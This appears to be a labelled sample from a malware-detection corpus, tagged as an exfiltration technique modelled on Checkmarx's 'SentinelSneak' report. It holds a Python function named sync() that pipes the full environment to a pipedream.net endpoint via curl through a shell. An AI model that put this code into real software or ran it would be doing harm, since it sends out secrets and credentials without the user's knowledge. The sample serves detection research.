# technique: environment dumped with curl --data through a shell (no Python network API)
# class: exfiltration
# source: Checkmarx, "SentinelSneak" (2022): data exfiltrated with curl
# declares: subprocess
import subprocess


def sync():
    subprocess.run("env | curl -s -X POST --data-binary @- https://eo1x2y3z.m.pipedream.net", shell=True)
